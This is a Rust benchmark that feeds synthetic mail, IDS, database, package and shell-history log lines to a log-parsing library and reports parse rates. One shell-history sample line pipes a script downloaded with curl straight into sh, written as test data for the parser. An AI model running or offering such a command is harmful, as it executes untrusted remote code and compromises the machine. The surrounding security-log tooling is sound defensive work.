//! Reads generated logs of mail, data stores, packages and network witnesses, and prints lines per
//! CPU second for each.
//!
//! ```text
//! cargo bench -p stanch-facts --bench services -- 200000
//! ```

use stanch_facts::logs::{self, Context, Stream};

/// A format and lines of it, with `SS` where the seconds stand.
const LINES: &[(&str, &[&str])] = &[
    (
        "syslog",
        &[
            "Nov 23 08:12:SS mx postfix/smtpd[7212]: connect from unknown[192.0.2.7]",
            "Nov 23 08:12:SS mx postfix/smtpd[7212]: warning: unknown[192.0.2.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
            "Nov 23 08:12:SS mx postfix/smtpd[7212]: NOQUEUE: reject: RCPT from example.com[192.0.2.8]: 554 5.7.1 <smtp@example.com>: Relay access denied; from=<john@example.com> to=<smtp@example.org> proto=SMTP helo=<x>",
            "Nov 23 08:12:SS mx postfix/smtpd[7212]: disconnect from unknown[192.0.2.7] ehlo=1 auth=0/1 quit=1 commands=2/3",
            "Nov 23 08:12:SS mx postfix/qmgr[812]: 4D1F23C0899: from=<ann@example.org>, size=7123, nrcpt=1 (queue active)",
            "Nov 23 08:12:SS mx dovecot: imap-login: Login: user=<ann>, method=PLAIN, rip=192.0.2.7, lip=10.0.0.1, mpid=7123, TLS, session=<x>",
        ],
    ),
    (
        "eve",
        &[
            r#"{"timestamp":"2026-11-23T08:12:SS.123456+0000","flow_id":1234567890123456,"in_iface":"eth0","event_type":"alert","src_ip":"192.0.2.7","src_port":55512,"dest_ip":"10.0.0.1","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2013028,"rev":4,"signature":"ET POLICY curl User-Agent Outbound","category":"Attempted Information Leak","severity":2},"app_proto":"http","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":347,"bytes_toclient":274,"start":"2026-11-23T08:12:SS.123456+0000"}}"#,
            r#"{"timestamp":"2026-11-23T08:12:SS.123456+0000","flow_id":1234567890123456,"in_iface":"eth0","event_type":"dns","src_ip":"10.0.0.1","src_port":55512,"dest_ip":"10.0.0.2","dest_port":53,"proto":"UDP","dns":{"type":"query","id":1234,"rrname":"www.example.org","rrtype":"A","tx_id":0}}"#,
        ],
    ),
    (
        "postgresql",
        &[
            "2026-11-23 08:12:SS.526 UTC [7755] ann@shop LOG:  statement: SELECT id, name, price FROM products WHERE category = 7 ORDER BY price LIMIT 50",
            "2026-11-23 08:12:SS.527 UTC [7755] ann@shop LOG:  duration: 1.234 ms",
        ],
    ),
    (
        "mysql",
        &[
            "2026-11-23T08:12:SS.123456Z\t    8 Query\tSELECT id, name, price FROM products WHERE category = 7 ORDER BY price LIMIT 50",
        ],
    ),
    (
        "dpkg",
        &[
            "2026-11-23 08:12:SS upgrade openssh-server:amd64 1:9.2p1-2 1:9.2p1-3",
            "2026-11-23 08:12:SS status half-configured openssh-server:amd64 1:9.2p1-3",
        ],
    ),
    (
        "mongodb",
        &[
            r#"{"t":{"$date":"2026-11-23T08:12:SS.678+00:00"},"s":"I","c":"NETWORK","id":22943,"ctx":"listener","msg":"Connection accepted","attr":{"remote":"192.0.2.7:55512","uuid":{"uuid":{"$uuid":"7b1c"}},"connectionId":6,"connectionCount":1}}"#,
        ],
    ),
    ("shell-history", &["#17000000SS", "curl -s http://192.0.2.7/x.sh | sh"]),
];

#[expect(
    clippy::disallowed_methods,
    clippy::print_stdout,
    reason = "a bench is a program of its own"
)]
fn main() {
    let arguments = std::env::args().skip(1);
    let count = arguments.filter_map(|argument| argument.parse().ok()).next().unwrap_or(200_000);
    for (name, lines) in LINES {
        let mut text = String::new();
        for at in 0..count {
            let line = lines.get(at % lines.len()).copied().unwrap_or_default();
            text.push_str(&line.replace("SS", &format!("{:02}", at / 100 % 60)));
            text.push('\n');
        }
        let mut events = 0_u64;
        let before = cpu();
        let context = Context::new(*name, 1_795_435_200_000_000);
        let mut stream = Stream::new(context, logs::find(name));
        for piece in text.as_bytes().chunks(64 << 10) {
            stream.feed(piece, &mut |_| events += 1);
        }
        let (counts, _) = stream.end(&mut |_| events += 1);
        let microseconds = (cpu() - before).max(1);
        let rate =
            i64::try_from(count).unwrap_or(i64::MAX).saturating_mul(1_000_000) / microseconds;
        println!(
            "{name}: {rate} lines a CPU second ({} lines, {events} events, {} not understood)",
            counts.lines, counts.not_understood
        );
    }
}

/// Returns the microseconds of CPU that this process has used.
fn cpu() -> i64 {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ProcessCPUTime);
    time.tv_sec * 1_000_000 + time.tv_nsec / 1000
}
